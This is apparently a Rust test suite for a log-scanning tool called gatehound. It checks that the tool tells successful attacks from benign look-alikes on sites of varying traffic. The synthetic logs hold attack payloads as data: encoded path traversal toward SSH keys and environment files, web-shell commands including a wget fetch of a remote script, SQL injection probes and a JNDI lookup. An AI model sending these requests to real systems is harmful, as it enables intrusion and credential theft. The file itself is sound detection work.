//! Whether an attack worked, told from how it was answered, each beside its harmless twin, on quiet and on busy sites.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

use std::fmt::Write as _;
use std::process::Command;

use serde_json::Value;

/// A site's log: as many readers as it is busy, who load pages with all that belongs to them.
struct Site {
    log: String,
    second: u64,
}

/// So many readers come in a day: a tenth of, as many as, and ten times as many as usual.
const READERS: [u64; 3] = [60, 600, 6000];

impl Site {
    fn with(readers: u64) -> Self {
        let mut site = Self { log: String::new(), second: 0 };
        for reader in 0..readers {
            let from = format!("192.0.{}.{}", reader / 250, reader % 250 + 1);
            site.opens_pages(&from);
            let size = |salt: u64| 4000 + (reader * 7919 + salt * 104_729) % 3000;
            site.reads(&from, &format!("/search?q=word{}", reader % 90), size(1));
            site.reads(&from, &format!("/download?file=paper{}.pdf", reader % 40), size(2));
            site.reads(&from, &format!("/docs/search?q=term{}", reader % 70), size(3));
        }
        site
    }

    /// What a browser loads beside what it came for.
    fn opens_pages(&mut self, from: &str) {
        self.asks(from, "GET", "/", 200, 9000, "-");
        self.asks(from, "GET", "/static/app.js", 200, 90_000, "https://www.example.com/");
    }

    /// A request from a page of the site's.
    fn reads(&mut self, from: &str, target: &str, size: u64) {
        self.asks(from, "GET", target, 200, size, "https://www.example.com/");
    }

    fn asks(&mut self, from: &str, method: &str, target: &str, status: u16, size: u64, page: &str) {
        self.second += 3;
        let (hour, minute, second) = (self.second / 3600 % 24, self.second / 60 % 60, self.second % 60);
        let day = 10 + self.second / 86_400;
        writeln!(
            self.log,
            "{from} - - [{day}/Mar/2026:{hour:02}:{minute:02}:{second:02} +0000] \"{method} {target} HTTP/1.1\" {status} {size} \
             \"{page}\" \"Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0\""
        )
        .unwrap();
    }

    /// One address asks for these, each answered with 2xx and so many bytes.
    fn is_asked(&mut self, targets: &[(&str, u64)]) {
        for &(target, size) in targets {
            self.asks(ATTACKER, "GET", target, 200, size, "-");
        }
    }

    fn report(&self) -> Value {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("a.log");
        std::fs::write(&path, &self.log).unwrap();
        let output = Command::new(env!("CARGO_BIN_EXE_gatehound"))
            .args(["scan", "--quiet", "--format", "json"])
            .arg(&path)
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        serde_json::from_slice(&output.stdout).unwrap()
    }

    fn incidents(&self) -> Vec<Value> {
        self.report()["incidents"].as_array().unwrap().clone()
    }

    /// The incident that names the attacker and hardly anybody else.
    fn incident(&self) -> Value {
        let all = self.incidents();
        let found =
            all.iter().find(|incident| incident["entities"]["source_ips"] == Value::from(vec![ATTACKER]));
        found.cloned().unwrap_or_else(|| panic!("nothing is told of the attacker: {:?}", told(&all)))
    }

    /// What is told at medium or above.
    fn loud(&self) -> Vec<String> {
        let all = self.incidents();
        let loud = all.iter().filter(|one| !matches!(one["severity"].as_str(), Some("low" | "info")));
        told(&loud.cloned().collect::<Vec<_>>())
    }
}

const ATTACKER: &str = "203.0.113.9";

/// Severities, outcomes, titles and summaries.
fn told(incidents: &[Value]) -> Vec<String> {
    let one = |incident: &Value| {
        ["severity", "outcome", "title", "summary"]
            .map(|name| incident[name].as_str().unwrap_or(""))
            .join(" | ")
    };
    incidents.iter().map(one).collect()
}

/// Paths that climb, written so that a filter lets them pass.
const CLIMBS: [&str; 4] = [
    "/download?file=%252e%252e%252f%252e%252e%252fsrv%252fpasswords",
    "/download?file=%252e%252e%252f%252e%252e%252fproc%252fself%252fenviron",
    "/download?file=%252e%252e%252f%252e%252e%252fapp%252fprod.yml",
    "/download?file=%252e%252e%252f%252e%252e%252froot%252f.ssh%252fid_rsa",
];

#[test]
fn files_that_were_read_are_told_however_small_they_are() {
    for readers in READERS {
        let mut site = Site::with(readers);
        site.is_asked(&[(CLIMBS[0], 2210), (CLIMBS[1], 1420), (CLIMBS[2], 810), (CLIMBS[3], 2600)]);
        let incident = site.incident();
        assert_eq!(
            (&incident["severity"], &incident["outcome"]),
            (&"high".into(), &"succeeded".into()),
            "{incident}"
        );
        // A page that says no, and repeats what it was asked for.
        let mut site = Site::with(readers);
        site.is_asked(&[(CLIMBS[0], 812), (CLIMBS[1], 830), (CLIMBS[2], 808), (CLIMBS[3], 826)]);
        assert_eq!(site.loud(), [""; 0], "{readers} readers");
    }
}

#[test]
fn a_page_that_runs_what_it_is_told_is_told_and_a_search_for_commands_is_not() {
    let commands: [(&str, u64); 6] = [
        ("whoami", 14),
        ("cat+/etc/passwd", 2210),
        ("ls+-la+/srv/www", 1820),
        ("wget+http://198.51.100.7/x.sh", 31),
        ("netstat+-an", 7710),
        ("uname+-a", 140),
    ];
    for readers in READERS {
        let mut site = Site::with(readers);
        for (command, size) in commands {
            site.is_asked(&[(&format!("/files/2026/.cache.php?cmd={command}"), size)]);
        }
        let incident = site.incident();
        assert_eq!(incident["outcome"], "succeeded", "{incident}");
        let mut site = Site::with(readers);
        for person in 0..40_usize {
            let from = format!("198.51.100.{}", person + 1);
            site.opens_pages(&from);
            for nth in 0..2 {
                let (command, _) = commands[(person + nth) % commands.len()];
                site.reads(&from, &format!("/docs/search?q={command}+%7C+sh"), 4100 + person as u64 * 70);
            }
        }
        assert_eq!(site.loud(), [""; 0], "{readers} readers");
    }
}

#[test]
fn a_script_among_files_that_answers_as_a_program_does_is_told() {
    for readers in READERS {
        let mut site = Site::with(readers);
        for size in [40, 310, 9200, 48_000, 700].into_iter().cycle().take(20) {
            site.asks(ATTACKER, "POST", "/uploads/2026/logo.php", 200, size, "-");
        }
        let incident = site.incident();
        assert_eq!(
            (&incident["severity"], &incident["outcome"]),
            (&"medium".into(), &"probed".into()),
            "{incident}"
        );
        // A program that takes what is uploaded and says thank you, and an administrator's program.
        let mut site = Site::with(readers);
        for size in [40, 310, 9200, 48_000, 700].into_iter().cycle().take(20) {
            site.asks("198.51.100.7", "POST", "/uploads/take.php", 200, 44, "-");
            site.asks("198.51.100.8", "POST", "/admin/ajax.php", 200, size, "-");
            site.asks("198.51.100.9", "POST", "/cache/view.php", 200, size, "https://www.example.com/cache/");
        }
        assert_eq!(site.loud(), [""; 0], "{readers} readers");
    }
}

#[test]
fn a_database_that_says_yes_or_no_is_not_lost_among_searchers() {
    for readers in READERS {
        let mut site = Site::with(readers);
        for person in 0..24 {
            let from = format!("198.51.100.{}", person + 1);
            site.opens_pages(&from);
            for text in ["select+*+from+users", "order+by+rand()+limit+1"] {
                site.reads(&from, &format!("/search?q={text}"), 4100 + person * 90);
            }
        }
        assert_eq!(site.loud(), [""; 0], "{readers} readers");
        for nth in 0..12 {
            let size = if nth % 2 == 0 { 5200 } else { 1100 };
            site.is_asked(&[(&format!("/search?q=a%27%20AND%20{nth}%3D{}--%20", nth / 2 * 2), size)]);
        }
        let incident = site.incident();
        assert_eq!(
            (&incident["severity"], &incident["outcome"]),
            (&"medium".into(), &"probed".into()),
            "{incident}"
        );
    }
}

#[test]
fn a_program_that_is_queried_in_sql_is_no_attack_and_the_same_without_a_page_is() {
    let query = |nth: u64| {
        format!(
            "/board/query?rawSql=SELECT+time%2C+value+FROM+metrics+WHERE+host%3D%27web{nth}%27+AND+time+%3E+1"
        )
    };
    for readers in READERS {
        let mut site = Site::with(readers);
        for person in 0..3 {
            let from = format!("198.51.100.{}", person + 1);
            site.opens_pages(&from);
            (0..60).for_each(|nth| site.reads(&from, &query(nth), 4000 + nth * 37 % 2500));
        }
        assert_eq!(site.loud(), [""; 0], "{readers} readers");
        let mut site = Site::with(readers);
        (0..60).for_each(|nth| site.is_asked(&[(&query(nth), 4000 + nth * 37 % 2500)]));
        assert_eq!(site.incident()["severity"], "medium");
    }
}

#[test]
fn what_left_stands_first_and_by_its_name() {
    let mut site = Site::with(600);
    for missing in ["/backup.zip", "/backup.tar.gz", "/site.sql", "/old.zip"] {
        site.asks(ATTACKER, "GET", missing, 404, 1500, "-");
    }
    site.is_asked(&[("/.env.bak", 2120), ("/backup/db.sql.gz", 88_210_300)]);
    let incident = site.incident();
    assert_eq!(incident["outcome"], "exfiltrated");
    assert_eq!(incident["title"], format!("Exposed file against GET /backup/db.sql.gz from {ATTACKER}"));
    assert!(incident["summary"].as_str().unwrap().contains("88.2 MB"), "{incident}");
}

#[test]
fn probes_that_were_answered_are_not_said_to_have_missed() {
    let summary = |status| {
        let mut site = Site::with(600);
        site.asks(ATTACKER, "GET", "/?x=$%7Bjndi:ldap://198.51.100.7/a%7D", status, 9000, "-");
        site.incident()["summary"].as_str().unwrap().to_owned()
    };
    assert_eq!(summary(404), "Single probes of 1 address, 1 request in all; none was answered with 2xx.");
    assert_eq!(
        summary(200),
        "Single probes of 1 address, 1 request in all; 1 got 2xx, and no answer tells that it worked."
    );
}

#[test]
fn a_service_behind_one_path_says_that_it_cannot_be_judged() {
    let missing = |site: &Site| {
        let report = site.report();
        let blind = report["run"]["blind"].as_array().unwrap().clone();
        blind.iter().any(|one| {
            one["missing"] == "request bodies" && one["fix"].as_str().unwrap().contains("POST /graphql")
        })
    };
    let mut site = Site::with(60);
    assert!(!missing(&site));
    (0..600_u64).for_each(|nth| {
        site.asks(&format!("192.0.2.{}", nth % 60 + 1), "POST", "/graphql", 200, 900 + nth, "-")
    });
    assert!(missing(&site));
}
